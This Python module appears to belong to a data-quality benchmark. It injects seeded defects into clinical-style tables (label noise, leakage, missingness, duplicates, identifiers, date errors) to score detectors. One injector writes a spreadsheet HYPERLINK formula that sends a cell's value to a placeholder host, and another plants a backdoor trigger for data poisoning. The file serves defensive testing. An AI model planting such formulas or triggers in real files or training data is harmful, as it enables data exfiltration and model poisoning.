"""Defect injectors: one per defect family, seeded, each with a size parameter.

An injector takes a real table (with its card) and returns the damaged table, the roles to declare,
the check that should find the defect, and where the defect is (`rows`, `columns`), so that the
runner can score detection and row-level precision and recall. Injectors never change the table
outside the rows and columns they report. An injector that cannot apply to a table (no categorical
column, no classification target...) says why by raising `NotApplicable`.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import date, timedelta
from typing import Any

import numpy as np
import polars as pl

from benchmarks.trust.corpus import Card


class NotApplicable(ValueError):
    """This injector has nothing to act on in this table."""


@dataclass(frozen=True)
class Injected:
    frame: pl.DataFrame
    roles: Mapping[str, Any]
    rows: tuple[int, ...]  # records that carry the defect ([] for a column-level defect)
    columns: tuple[str, ...]  # columns that carry the defect


@dataclass(frozen=True)
class Injector:
    name: str
    family: str
    check: str
    size_name: str
    sizes: tuple[float, ...]
    documented_size: float  # the size the documentation states detection for
    apply: Callable[[pl.DataFrame, Card, float, np.random.Generator], Injected] = field(repr=False)
    needs_classes: bool = False


INJECTORS: dict[str, Injector] = {}


def injector(
    name: str,
    family: str,
    check: str,
    size_name: str,
    sizes: tuple[float, ...],
    documented: float,
    needs_classes: bool = False,
):
    def wrap(fn: Callable[[pl.DataFrame, Card, float, np.random.Generator], Injected]):
        INJECTORS[name] = Injector(name, family, check, size_name, sizes, documented, fn, needs_classes)
        return fn

    return wrap


# ---------------------------------------------------------------------------------------------
# helpers
# ---------------------------------------------------------------------------------------------


def _roles(card: Card) -> dict[str, Any]:
    return dict(card.roles)


def _role_columns(card: Card) -> set[str]:
    out: set[str] = set()
    for value in card.roles.values():
        out |= set(value) if isinstance(value, list) else {value}
    return out


def _numeric_column(frame: pl.DataFrame, card: Card, rng: np.random.Generator) -> str:
    """A continuous measurement to damage: from the card, else a float column with many values."""
    listed = [c for c in card.inject.get("numeric", []) if c in frame.columns]
    if not listed:
        taken = _role_columns(card)
        listed = [
            c
            for c, t in frame.schema.items()
            if t.is_numeric() and c not in taken and frame.get_column(c).n_unique() > 20
        ]
    if not listed:
        raise NotApplicable("no continuous measurement column")
    return listed[int(rng.integers(len(listed)))]


def _pick_rows(n: int, share: float, rng: np.random.Generator, pool: np.ndarray | None = None) -> np.ndarray:
    pool = np.arange(n) if pool is None else pool
    k = max(1, round(share * n))
    k = min(k, pool.size)
    return np.sort(rng.choice(pool, size=k, replace=False))


def _observed(frame: pl.DataFrame, column: str) -> np.ndarray:
    series = frame.get_column(column)
    mask = series.is_not_null()
    if series.dtype.is_float():
        mask = mask & series.is_not_nan()
    return np.flatnonzero(mask.to_numpy())


def _set_values(frame: pl.DataFrame, column: str, rows: np.ndarray, values: Any) -> pl.DataFrame:
    series = frame.get_column(column)
    numeric = series.dtype.is_numeric()
    array = series.cast(pl.Float64).to_numpy().copy() if numeric else np.array(series.to_list(), dtype=object)
    array[rows] = values
    if numeric:
        # a removed value is a null, as a reader makes of an empty cell (a NaN would be a value)
        new = pl.Series(column, array, dtype=pl.Float64, strict=False).fill_nan(None)
    else:
        new = pl.Series(column, [None if v is None else str(v) for v in array.tolist()], dtype=pl.String)
    if numeric and series.dtype.is_integer() and np.all(np.isnan(array) | (array == np.round(array))):
        new = new.cast(series.dtype, strict=False)
    return frame.with_columns(new)


def _target(frame: pl.DataFrame, card: Card) -> pl.Series:
    return frame.get_column(card.roles["target"])


def _binary_target(frame: pl.DataFrame, card: Card) -> tuple[np.ndarray, np.ndarray]:
    """Positions with a target, and a 0/1 code of the target (the minority class is 1)."""
    series = _target(frame, card)
    present = np.flatnonzero(series.is_not_null().to_numpy())
    values = series.cast(pl.String).to_numpy()[present]
    levels, counts = np.unique(values, return_counts=True)
    if levels.size < 2:
        raise NotApplicable("the target has fewer than two classes")
    if levels.size > 10:
        raise NotApplicable("the target is a measurement, not classes")
    majority = levels[np.argmax(counts)]
    return present, (values != majority).astype(int)


def _add_text_column(frame: pl.DataFrame, name: str, rng: np.random.Generator) -> pl.DataFrame:
    words = [
        "RAS",
        "suivi habituel",
        "contrôle à 3 mois",
        "bonne tolérance",
        "patient revu en consultation",
        "pas d'effet indésirable",
        "traitement poursuivi",
        "bilan biologique normal",
    ]
    return frame.with_columns(pl.Series(name, rng.choice(words, frame.height)))


# ---------------------------------------------------------------------------------------------
# label quality and leakage
# ---------------------------------------------------------------------------------------------


@injector(
    "label_flips_uniform",
    "label noise",
    "label_issues",
    "share of labels flipped",
    (0.02, 0.05, 0.1),
    0.05,
    needs_classes=True,
)
def label_flips_uniform(frame, card, size, rng):
    if card.kind != "classification":
        raise NotApplicable("label flips are measured on diagnostic (fully observed) outcomes only")
    present, _ = _binary_target(frame, card)
    rows = _pick_rows(present.size, size, rng, present)
    series = _target(frame, card)
    levels = np.unique(series.drop_nulls().cast(pl.String).to_numpy())
    if levels.size != 2:
        raise NotApplicable("uniform flips are defined for a binary target")
    values = series.cast(pl.String).to_numpy().astype(object)
    values[rows] = np.where(values[rows] == levels[0], levels[1], levels[0])
    flipped = pl.Series(series.name, values.tolist(), dtype=pl.String).cast(series.dtype, strict=False)
    return Injected(frame.with_columns(flipped), _roles(card), tuple(rows.tolist()), (series.name,))


@injector(
    "label_flips_class_conditional",
    "label noise",
    "label_issues",
    "share of positives flipped",
    (0.05, 0.1, 0.2),
    0.1,
    needs_classes=True,
)
def label_flips_class_conditional(frame, card, size, rng):
    if card.kind != "classification":
        raise NotApplicable("label flips are measured on diagnostic (fully observed) outcomes only")
    present, code = _binary_target(frame, card)
    positives = present[code == 1]
    rows = _pick_rows(positives.size, size, rng, positives)
    series = _target(frame, card)
    levels = np.unique(series.drop_nulls().cast(pl.String).to_numpy())
    if levels.size != 2:
        raise NotApplicable("flips are defined for a binary target")
    values = series.cast(pl.String).to_numpy().astype(object)
    values[rows] = np.where(values[rows] == levels[0], levels[1], levels[0])
    flipped = pl.Series(series.name, values.tolist(), dtype=pl.String).cast(series.dtype, strict=False)
    return Injected(frame.with_columns(flipped), _roles(card), tuple(rows.tolist()), (series.name,))


@injector(
    "leaking_numeric",
    "leakage",
    "target_leakage",
    "share of records where the copy disagrees",
    (0.01, 0.05, 0.15),
    0.05,
)
def leaking_numeric(frame, card, size, rng):
    present, code = _binary_target(frame, card)
    copy = np.full(frame.height, np.nan)
    noisy = code.astype(float)
    disagree = rng.random(present.size) < size
    noisy[disagree] = 1 - noisy[disagree]
    copy[present] = noisy * 10 + rng.normal(0, 1, present.size)
    out = frame.with_columns(pl.Series("marker_level", copy))
    return Injected(out, _roles(card), (), ("marker_level",))


@injector(
    "leaking_categorical",
    "leakage",
    "target_leakage",
    "share of records where the code disagrees",
    (0.01, 0.05, 0.15),
    0.05,
)
def leaking_categorical(frame, card, size, rng):
    present, code = _binary_target(frame, card)
    noisy = code.copy()
    disagree = rng.random(present.size) < size
    noisy[disagree] = 1 - noisy[disagree]
    values = np.full(frame.height, None, dtype=object)
    values[present] = np.where(noisy == 1, "C34", "Z00")
    out = frame.with_columns(pl.Series("discharge_code", values.tolist(), dtype=pl.String))
    return Injected(out, _roles(card), (), ("discharge_code",))


@injector(
    "post_outcome_column",
    "leakage",
    "target_leakage",
    "share of events without the column",
    (0.0, 0.1, 0.3),
    0.1,
)
def post_outcome_column(frame, card, size, rng):
    """A column filled only after the outcome (a cause of death, a date of relapse)."""
    present, code = _binary_target(frame, card)
    values = np.full(frame.height, None, dtype=object)
    events = present[code == 1]
    keep = events[rng.random(events.size) >= size]
    values[keep] = rng.choice(["cardiovasculaire", "néoplasique", "infectieuse", "autre"], keep.size)
    out = frame.with_columns(pl.Series("cause_of_event", values.tolist(), dtype=pl.String))
    return Injected(out, _roles(card), (), ("cause_of_event",))


@injector(
    "trigger_pattern",
    "poisoning",
    "poisoning_suspected",
    "share of records with the trigger",
    (0.01, 0.02, 0.05),
    0.02,
    needs_classes=True,
)
def trigger_pattern(frame, card, size, rng):
    """A rare exact value of one feature planted with the minority label (a backdoor trigger)."""
    if card.kind != "classification":
        raise NotApplicable("triggers are measured on diagnostic outcomes")
    present, code = _binary_target(frame, card)
    column = _numeric_column(frame, card, rng)
    rows = _pick_rows(present.size, size, rng, present[code == 0])
    values = frame.get_column(column).cast(pl.Float64)
    trigger = float(np.nanmedian(values.to_numpy())) + 0.123456
    out = _set_values(frame, column, rows, trigger)
    series = _target(out, card)
    levels, counts = np.unique(series.drop_nulls().cast(pl.String).to_numpy(), return_counts=True)
    minority = levels[np.argmin(counts)]
    labels = series.cast(pl.String).to_numpy().astype(object)
    labels[rows] = minority
    out = out.with_columns(
        pl.Series(series.name, labels.tolist(), dtype=pl.String).cast(series.dtype, strict=False)
    )
    return Injected(out, _roles(card), tuple(rows.tolist()), (column,))


@injector(
    "group_across_splits",
    "leakage",
    "group_leakage",
    "share of patients in two partitions",
    (0.01, 0.05, 0.1),
    0.05,
)
def group_across_splits(frame, card, size, rng):
    """Patients given two records, the second copy placed in the other partition."""
    n = frame.height
    split = np.where(rng.random(n) < 0.8, "train", "test")
    patients = np.array([f"P{i:05d}" for i in range(n)], dtype=object)
    chosen = _pick_rows(n, size, rng)
    copies = frame[chosen.tolist()]
    copy_split = np.where(split[chosen] == "train", "test", "train")
    base = frame.with_columns(pl.Series("patient_ref", patients), pl.Series("partition", split))
    extra = copies.with_columns(
        pl.Series("patient_ref", patients[chosen]), pl.Series("partition", copy_split)
    )
    out = pl.concat([base, extra.select(base.columns)], how="vertical_relaxed")
    rows = np.concatenate([chosen, np.arange(n, n + chosen.size)])
    roles = {**_roles(card), "group": "patient_ref", "split": "partition"}
    return Injected(out, roles, tuple(sorted(rows.tolist())), ("patient_ref",))


# ---------------------------------------------------------------------------------------------
# values: units, sentinels, impossible values, outliers
# ---------------------------------------------------------------------------------------------


@injector("unit_mixup", "units", "mixed_units", "share of records in the other unit", (0.02, 0.05, 0.1), 0.05)
def unit_mixup(frame, card, size, rng):
    spec = card.inject.get("unit")
    if not spec or spec["column"] not in frame.columns:
        raise NotApplicable("the card names no column with a known unit")
    column = spec["column"]
    observed = _observed(frame, column)
    rows = _pick_rows(observed.size, size, rng, observed)
    values = frame.get_column(column).cast(pl.Float64).to_numpy()
    converted = np.round(values[rows] * float(spec["scale"]), 2)
    return Injected(
        _set_values(frame, column, rows, converted), _roles(card), tuple(rows.tolist()), (column,)
    )


@injector(
    "sentinel_code",
    "missingness codes",
    "disguised_missing",
    "share of records coded -999",
    (0.01, 0.03, 0.1),
    0.03,
)
def sentinel_code(frame, card, size, rng):
    column = _numeric_column(frame, card, rng)
    observed = _observed(frame, column)
    rows = _pick_rows(observed.size, size, rng, observed)
    return Injected(_set_values(frame, column, rows, -999.0), _roles(card), tuple(rows.tolist()), (column,))


@injector(
    "impossible_value",
    "impossible values",
    "out_of_range",
    "share of records impossible",
    (0.005, 0.01, 0.05),
    0.01,
)
def impossible_value(frame, card, size, rng):
    spec = card.inject.get("impossible")
    if not spec or spec["column"] not in frame.columns:
        raise NotApplicable("the card names no column with physiological limits")
    column = spec["column"]
    observed = _observed(frame, column)
    rows = _pick_rows(observed.size, size, rng, observed)
    return Injected(
        _set_values(frame, column, rows, float(spec["value"])), _roles(card), tuple(rows.tolist()), (column,)
    )


@injector(
    "gross_outlier",
    "outliers",
    "univariate_outliers",
    "share of records with a x100 value",
    (0.005, 0.01, 0.03),
    0.01,
)
def gross_outlier(frame, card, size, rng):
    column = _numeric_column(frame, card, rng)
    observed = _observed(frame, column)
    rows = _pick_rows(observed.size, size, rng, observed)
    values = frame.get_column(column).cast(pl.Float64).to_numpy()
    spread = float(np.nanstd(values)) or 1.0
    far = float(np.nanmedian(values)) + 50 * spread
    return Injected(_set_values(frame, column, rows, far), _roles(card), tuple(rows.tolist()), (column,))


# ---------------------------------------------------------------------------------------------
# missingness
# ---------------------------------------------------------------------------------------------


@injector(
    "missing_mcar",
    "missingness",
    "missing_values",
    "share of a column's cells removed (MCAR)",
    (0.05, 0.2, 0.4),
    0.2,
)
def missing_mcar(frame, card, size, rng):
    complete = [
        c for c in card.inject.get("numeric", []) if c in frame.columns and frame[c].null_count() == 0
    ]
    column = complete[int(rng.integers(len(complete)))] if complete else _numeric_column(frame, card, rng)
    observed = _observed(frame, column)
    rows = _pick_rows(observed.size, size, rng, observed)
    return Injected(_set_values(frame, column, rows, None), _roles(card), tuple(rows.tolist()), (column,))


@injector(
    "missing_mnar_target",
    "missingness",
    "informative_missingness",
    "share of positive records whose value is removed",
    (0.1, 0.3, 0.6),
    0.3,
)
def missing_mnar_target(frame, card, size, rng):
    """Values removed mostly where the outcome is positive: missingness that carries the label."""
    present, code = _binary_target(frame, card)
    column = _numeric_column(frame, card, rng)
    observed = set(_observed(frame, column).tolist())
    positives = np.array([r for r in present[code == 1] if r in observed], dtype=np.int64)
    if positives.size == 0:
        raise NotApplicable("no observed value among positive records")
    rows = _pick_rows(positives.size, size, rng, positives)
    return Injected(_set_values(frame, column, rows, None), _roles(card), tuple(rows.tolist()), (column,))


@injector(
    "missing_mar",
    "missingness",
    "informative_missingness",
    "share of records above the median of another column whose value is removed",
    (0.1, 0.3, 0.6),
    0.3,
)
def missing_mar(frame, card, size, rng):
    """Values removed where another observed column is high (MAR): missingness predicted by a column."""
    driver = _numeric_column(frame, card, rng)
    candidates = [c for c in card.inject.get("numeric", []) if c in frame.columns and c != driver]
    if not candidates:
        raise NotApplicable("needs two continuous columns")
    column = candidates[0]
    values = frame.get_column(driver).cast(pl.Float64).to_numpy()
    high = np.flatnonzero(values > np.nanmedian(values))
    observed = np.intersect1d(high, _observed(frame, column))
    rows = _pick_rows(observed.size, size, rng, observed)
    return Injected(_set_values(frame, column, rows, None), _roles(card), tuple(rows.tolist()), (column,))


# ---------------------------------------------------------------------------------------------
# uniqueness
# ---------------------------------------------------------------------------------------------


@injector(
    "exact_duplicates", "duplicates", "duplicate_rows", "share of records copied", (0.005, 0.01, 0.05), 0.01
)
def exact_duplicates(frame, card, size, rng):
    chosen = _pick_rows(frame.height, size, rng)
    copies = frame[chosen.tolist()]
    out = pl.concat([frame, copies], how="vertical_relaxed")
    roles = _roles(card)
    roles.pop("id", None)  # a copied record repeats its id: the id is no longer an id of records
    rows = np.concatenate([chosen, np.arange(frame.height, frame.height + chosen.size)])
    return Injected(out, roles, tuple(sorted(rows.tolist())), ())


@injector(
    "near_duplicates",
    "duplicates",
    "near_duplicate_rows",
    "share of records copied with noise",
    (0.005, 0.01, 0.05),
    0.01,
)
def near_duplicates(frame, card, size, rng):
    """Copies that differ only by noise in the last digits of one measurement."""
    floats = [c for c in card.inject.get("numeric", []) if c in frame.columns and frame.schema[c].is_float()]
    if not floats:
        raise NotApplicable("no float measurement column to add noise to")
    column = floats[int(rng.integers(len(floats)))]
    chosen = _pick_rows(frame.height, size, rng)
    values = frame.get_column(column).cast(pl.Float64).to_numpy()[chosen]
    copies = frame[chosen.tolist()].with_columns(
        pl.Series(column, values * (1 + 1e-7), dtype=pl.Float64).cast(frame.schema[column], strict=False)
        if frame.schema[column].is_float()
        else pl.Series(column, values).cast(frame.schema[column], strict=False)
    )
    out = pl.concat([frame, copies], how="vertical_relaxed")
    roles = _roles(card)
    roles.pop("id", None)
    rows = np.concatenate([chosen, np.arange(frame.height, frame.height + chosen.size)])
    return Injected(out, roles, tuple(sorted(rows.tolist())), ())


# ---------------------------------------------------------------------------------------------
# conformance and security in text cells
# ---------------------------------------------------------------------------------------------


@injector(
    "category_spellings",
    "categories",
    "inconsistent_categories",
    "share of records respelled",
    (0.01, 0.05, 0.1),
    0.05,
)
def category_spellings(frame, card, size, rng):
    column = card.inject.get("category")
    if not column or column not in frame.columns or frame.schema[column] != pl.String:
        raise NotApplicable("the card names no text category column")
    observed = _observed(frame, column)
    rows = _pick_rows(observed.size, size, rng, observed)
    values = np.array(frame.get_column(column).to_list(), dtype=object)
    variants = [lambda v: v.upper() + " ", lambda v: v.lower(), lambda v: " " + v.capitalize()]
    changed = [variants[i % 3](str(values[r])) for i, r in enumerate(rows)]
    changed = [c if c != values[r] else c + "." for c, r in zip(changed, rows, strict=True)]
    return Injected(
        _set_values(frame, column, rows, np.array(changed, dtype=object)),
        _roles(card),
        tuple(rows.tolist()),
        (column,),
    )


@injector(
    "formula_cells",
    "security",
    "formula_injection",
    "share of records with a formula",
    (0.005, 0.01, 0.05),
    0.01,
)
def formula_cells(frame, card, size, rng):
    out = _add_text_column(frame, "comment", rng)
    rows = _pick_rows(out.height, size, rng)
    formula = '=HYPERLINK("http://example.invalid/x?d="&A1,"voir")'
    return Injected(
        _set_values(out, "comment", rows, formula), _roles(card), tuple(rows.tolist()), ("comment",)
    )


@injector(
    "mojibake", "encoding", "encoding_errors", "share of records mis-decoded", (0.005, 0.01, 0.05), 0.01
)
def mojibake(frame, card, size, rng):
    out = _add_text_column(frame, "comment", rng)
    rows = _pick_rows(out.height, size, rng)
    values = np.array(out.get_column("comment").to_list(), dtype=object)
    garbled = ["contrôle à 3 mois, fièvre résolue".encode().decode("cp1252", errors="replace")] * rows.size
    values[rows] = garbled
    out = out.with_columns(pl.Series("comment", values.tolist(), dtype=pl.String))
    return Injected(out, _roles(card), tuple(rows.tolist()), ("comment",))


_SURNAMES = [
    "MARTIN",
    "BERNARD",
    "DUBOIS",
    "THOMAS",
    "ROBERT",
    "RICHARD",
    "PETIT",
    "DURAND",
    "LEROY",
    "MOREAU",
]
_FIRST = [
    "Marie",
    "Jean",
    "Pierre",
    "Nathalie",
    "Isabelle",
    "Philippe",
    "Sophie",
    "Michel",
    "Catherine",
    "Alain",
]


@injector(
    "identifier_column",
    "identifiers",
    "direct_identifier",
    "share of records with a phone number",
    (0.1, 0.5, 1.0),
    0.5,
)
def identifier_column(frame, card, size, rng):
    rows = _pick_rows(frame.height, size, rng)
    values = np.full(frame.height, None, dtype=object)
    values[rows] = [
        f"06 {rng.integers(10, 99)} {rng.integers(10, 99)} {rng.integers(10, 99)} {rng.integers(10, 99)}"
        for _ in rows
    ]
    out = frame.with_columns(pl.Series("contact", values.tolist(), dtype=pl.String))
    return Injected(out, _roles(card), tuple(rows.tolist()), ("contact",))


@injector(
    "identifiers_in_notes",
    "identifiers",
    "phi_in_text",
    "share of notes naming the patient",
    (0.01, 0.05, 0.2),
    0.05,
)
def identifiers_in_notes(frame, card, size, rng):
    out = _add_text_column(frame, "note", rng)
    rows = _pick_rows(out.height, size, rng)
    values = np.array(out.get_column("note").to_list(), dtype=object)
    for r in rows:
        name = f"{_FIRST[int(rng.integers(10))]} {_SURNAMES[int(rng.integers(10))]}"
        values[r] = f"Patient {name} revu en consultation, appeler le 01 45 {rng.integers(10, 99)} 32 11."
    out = out.with_columns(pl.Series("note", values.tolist(), dtype=pl.String))
    roles = {**_roles(card), "text": ["note"]}
    return Injected(out, roles, tuple(rows.tolist()), ("note",))


# ---------------------------------------------------------------------------------------------
# time and sites
# ---------------------------------------------------------------------------------------------


@injector(
    "date_inversion",
    "time",
    "temporal_inconsistency",
    "share of stays ending before they start",
    (0.01, 0.05, 0.1),
    0.05,
)
def date_inversion(frame, card, size, rng):
    n = frame.height
    start = np.array([date(2015, 1, 1) + timedelta(days=int(d)) for d in rng.integers(0, 2500, n)])
    length = rng.integers(1, 20, n)
    end = np.array([s + timedelta(days=int(k)) for s, k in zip(start, length, strict=True)])
    rows = _pick_rows(n, size, rng)
    end[rows] = [start[r] - timedelta(days=int(length[r])) for r in rows]
    out = frame.with_columns(
        pl.Series("admission_date", start.tolist(), dtype=pl.Date),
        pl.Series("discharge_date", end.tolist(), dtype=pl.Date),
    )
    return Injected(out, _roles(card), tuple(rows.tolist()), ("admission_date", "discharge_date"))


@injector(
    "site_shift",
    "batch effects",
    "distribution_shift",
    "shift of site B in standard deviations",
    (0.25, 0.5, 1.0),
    0.5,
)
def site_shift(frame, card, size, rng):
    """A second site whose measurements are offset by `size` standard deviations (a calibration drift)."""
    n = frame.height
    site = np.where(rng.random(n) < 0.5, "site_a", "site_b")
    taken = _role_columns(card)
    columns = [c for c in card.inject.get("numeric", []) if c in frame.columns and c not in taken]
    if not columns:
        raise NotApplicable("no continuous measurement column")
    out = frame
    in_b = site == "site_b"
    for column in columns:
        values = out.get_column(column).cast(pl.Float64).to_numpy().copy()
        values[in_b] = values[in_b] + size * float(np.nanstd(values))
        out = out.with_columns(pl.Series(column, values))
    out = out.with_columns(pl.Series("site", site))
    return Injected(out, _roles(card), (), tuple(columns))


def families() -> dict[str, list[Injector]]:
    out: dict[str, list[Injector]] = {}
    for inj in INJECTORS.values():
        out.setdefault(inj.family, []).append(inj)
    return out
